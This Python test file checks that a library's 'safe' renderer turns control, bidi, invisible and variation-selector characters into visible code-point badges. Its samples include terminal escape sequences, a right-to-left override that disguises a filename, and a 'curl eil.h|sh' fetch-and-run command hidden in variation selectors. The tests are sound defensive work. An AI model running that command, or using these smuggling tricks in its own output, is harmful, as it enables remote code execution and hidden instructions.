"""fidelity.safe never lets a control, bidi or invisible character through raw.

What counts as raw comes from the hand-written list in ``_support.terminal``, not from
the renderer's own ``is_unsafe``: a bug there must fail these tests.
"""

from __future__ import annotations

import unicodedata

import pytest
from _support.terminal import FORBIDDEN, JOINERS, hostile_text, raw_forbidden
from hypothesis import given
from hypothesis import strategies as st

from fidelity import safe
from fidelity._core.render import badge, codepoints

HOSTILE = [
    "\x1b[2J\x1b[31mred",  # ESC sequences
    "\u202etxt.exe",  # RIGHT-TO-LEFT OVERRIDE
    "a\x00b",  # NUL
    "line\u2028sep",  # LINE SEPARATOR
    "zero\u200bwidth",  # ZERO WIDTH SPACE
    "\ufeffbom",
    "tag\U000e0041",  # TAG LATIN CAPITAL LETTER A
    "\x9bcsi",  # C1 CONTROL SEQUENCE INTRODUCER
    "nb\u00a0sp",
    "\ud800lone",
]


_PRIVATE = ((0xE000, 0xF8FF), (0xF0000, 0xFFFFD), (0x100000, 0x10FFFD))

#: Every forbidden code point and joiner; of the private-use areas (130k code points,
#: one rule) their ends and every 61st.
_ALL = [
    cp
    for cp in sorted(FORBIDDEN | JOINERS)
    if not any(lo < cp < hi for lo, hi in _PRIVATE) or cp % 61 == 0
]


def test_hostile_examples_are_badged() -> None:
    for text in HOSTILE:
        shown = safe(text)
        assert not raw_forbidden(shown), (text, shown)
        assert "[U+" in shown


@pytest.mark.parametrize("context", ["{}", "a{}b", "{}{}", "\u00e9{}", "\U0001f600{}\u0301", " {}"])
def test_every_forbidden_code_point_is_badged(context: str) -> None:
    text = "|".join(context.format(chr(cp), chr(cp)) for cp in _ALL)
    shown = safe(text)
    assert not raw_forbidden(shown)
    assert shown.count("[U+") >= len(FORBIDDEN.intersection(_ALL))
    shown.encode("utf-8")  # no lone surrogate survives


@given(hostile_text())
def test_safe_output_has_no_forbidden_character(text: str) -> None:
    shown = safe(text)
    assert not raw_forbidden(shown)
    shown.encode("utf-8")  # no lone surrogate survives


@given(st.text(alphabet=st.characters(codec="ascii", categories=("L", "N", "P", "S", "Zs"))))
def test_printable_ascii_is_unchanged(text: str) -> None:
    assert safe(text) == text


def test_combining_mark_stays_with_its_base() -> None:
    assert safe("e\u0301") == "e\u0301"
    assert safe("\u0301") == "[U+0301 COMBINING ACUTE ACCENT]"


def test_emoji_zwj_sequence_is_kept_whole() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert safe(family) == family
    fire_heart = "\u2764\ufe0f\u200d\U0001f525"
    assert safe(fire_heart) == fire_heart
    assert safe("a\u200d") == "a[U+200D ZERO WIDTH JOINER]"


def test_a_joiner_that_joins_no_picture_is_a_badge() -> None:
    zwj = "[U+200D ZERO WIDTH JOINER]"
    assert safe("a\u200d\u0301") == f"a{zwj}[U+0301 COMBINING ACUTE ACCENT]"
    assert safe("x\u200d\ufe0f") == f"x{zwj}[U+FE0F VARIATION SELECTOR-16]"
    assert safe("\U0001f600\u200d\u200d\U0001f600") == f"\U0001f600{zwj}{zwj}\U0001f600"


def test_badge_and_codepoints() -> None:
    assert badge("\x1b") == "[U+001B ESCAPE]"
    assert badge("\u201c") == f"[U+201C {unicodedata.name(chr(0x201C))}]"
    assert codepoints("a\u00e9") == "U+0061 U+00E9"
    assert codepoints("") == ""


def test_letters_and_symbols_that_print_as_nothing_are_badged() -> None:
    for char, name in (
        ("\u3164", "HANGUL FILLER"),
        ("\u115f", "HANGUL CHOSEONG FILLER"),
        ("\u1160", "HANGUL JUNGSEONG FILLER"),
        ("\uffa0", "HALFWIDTH HANGUL FILLER"),
        ("\u2800", "BRAILLE PATTERN BLANK"),
        ("\u034f", "COMBINING GRAPHEME JOINER"),
        ("\u17b4", "KHMER VOWEL INHERENT AQ"),
    ):
        assert safe(f"a{char}b") == f"a[U+{ord(char):04X} {name}]b"
        assert safe(char) == f"[U+{ord(char):04X} {name}]"


def test_every_default_ignorable_code_point_is_badged_but_variation_selectors() -> None:
    import regex

    ignorable = regex.compile(r"\p{Default_Ignorable_Code_Point}")
    selectors = {*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0), 0x180B, 0x180C, 0x180D, 0x180F}
    missed = [
        f"U+{cp:04X}"
        for cp in range(0x110000)
        if cp not in selectors and ignorable.match(chr(cp)) and chr(cp) in safe(f"a{chr(cp)}b")
    ]
    assert not missed
    # A variation selector chooses the form of the character before it: kept there,
    # a badge where it has nothing to select.
    assert safe("\u2764\ufe0f") == "\u2764\ufe0f"
    assert safe("\u8fbb\U000e0100") == "\u8fbb\U000e0100"
    assert safe("\ufe0f") == "[U+FE0F VARIATION SELECTOR-16]"


def test_a_selector_that_selects_nothing_is_a_badge() -> None:
    # After a space, a mark or another selector a variation selector prints as nothing;
    # a run of them after one letter is how text is hidden in "emoji smuggling".
    vs16, vs17 = "[U+FE0F VARIATION SELECTOR-16]", "[U+E0100 VARIATION SELECTOR-17]"
    assert safe(" \ufe0f") == f" {vs16}"
    assert safe("e\u0301\ufe0f") == f"e\u0301{vs16}"
    assert safe("\u2764\ufe0f\ufe0f") == f"\u2764\ufe0f{vs16}"
    assert safe("\u8fbb" + "\U000e0100" * 3) == "\u8fbb\U000e0100" + vs17 * 2
    for hidden in (" \ufe0f", "e\u0301\ufe0f", "a\ufe0f", "\u8fbb\U000e0100\U000e0100"):
        assert raw_forbidden(hidden)  # the independent list agrees: not raw
    couple = "\U0001f468\u200d\u2764\ufe0f\u200d\U0001f468"
    assert safe(couple) == couple
    assert not raw_forbidden(couple)


def test_a_stack_of_combining_marks_is_shown_as_code_points() -> None:
    zalgo = "Z" + "\u0334\u0321\u0327" * 17  # 51 marks on one base
    shown = safe(zalgo)
    assert shown.startswith("Z[U+0334 COMBINING TILDE OVERLAY][U+0321 ")
    assert shown.count("[U+") == 51
    assert not any(unicodedata.category(c) in ("Mn", "Me") for c in shown)
    # Ordinary text keeps its marks on their base: one, or a few.
    assert safe("e\u0301") == "e\u0301"
    assert safe("a\u0323\u0302") == "a\u0323\u0302"  # Vietnamese: two marks
    assert safe("\u05e9\u05c1\u05b8") == "\u05e9\u05c1\u05b8"  # Hebrew: shin dot, qamats
    assert safe("e\u0301\u0302\u0303\u0304") == "e\u0301\u0302\u0303\u0304"
    assert safe("e\u0301\u0302\u0303\u0304\u0305").count("[U+") == 5


def test_one_selector_after_each_letter_hides_nothing() -> None:
    # "Variation-selector smuggling": a selector after each letter of a word chooses
    # no form (no variation sequence starts with a Latin letter), prints as nothing
    # and carries a byte each (here `curl eil.h|sh`, one selector per letter).
    hidden = b"curl eil.h|sh"
    word = "description"
    smuggled = "".join(
        letter + (chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16))
        for letter, b in zip(word * 2, hidden, strict=False)
    )
    shown = safe(smuggled)
    assert shown.count("[U+") == len(hidden)  # every hidden byte is a badge
    assert raw_forbidden(smuggled)
    assert not raw_forbidden(shown)
    for letter in "aZéжλ":
        assert safe(letter + "\ufe0f") == f"{letter}[U+FE0F VARIATION SELECTOR-16]"
        assert safe(letter + "\ufe00") == f"{letter}[U+FE00 VARIATION SELECTOR-1]"


@pytest.mark.parametrize(
    "sequence",
    [
        "\u2764\ufe0f",  # emoji presentation of HEAVY BLACK HEART
        "\u263a\ufe0e",  # text presentation of WHITE SMILING FACE
        "1\ufe0f\u20e3",  # keycap one
        "#\ufe0f\u20e3",  # keycap number sign
        "\u2139\ufe0f",  # INFORMATION SOURCE (a letter with the Emoji property)
        "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag
        "\u8fbb\U000e0100",  # an ideographic variation sequence
        "\u8fbb\ufe00",  # a CJK compatibility variant
        "0\ufe00",  # DIGIT ZERO, short diagonal stroke form
        "\u2268\ufe00",  # LESS-THAN BUT NOT EQUAL TO, with vertical stroke
        "\u1000\ufe00",  # MYANMAR LETTER KA, dotted form
        "\u1820\u180b",  # MONGOLIAN LETTER A, first free variation
    ],
)
def test_a_variation_sequence_unicode_defines_is_kept_raw(sequence: str) -> None:
    assert safe(sequence) == sequence
    assert not raw_forbidden(sequence)


def test_selectors_a_base_cannot_take_are_badges() -> None:
    assert safe("\u2764\ufe00") == "\u2764[U+FE00 VARIATION SELECTOR-1]"  # FE00 on an emoji
    assert safe("\u2268\ufe01") == "\u2268[U+FE01 VARIATION SELECTOR-2]"
    assert safe("\u1820\ufe0f") == "\u1820[U+FE0F VARIATION SELECTOR-16]"
    assert safe("a\u180b") == "a[U+180B MONGOLIAN FREE VARIATION SELECTOR ONE]"
    assert safe("\U0001f600\U000e0100") == "\U0001f600[U+E0100 VARIATION SELECTOR-17]"
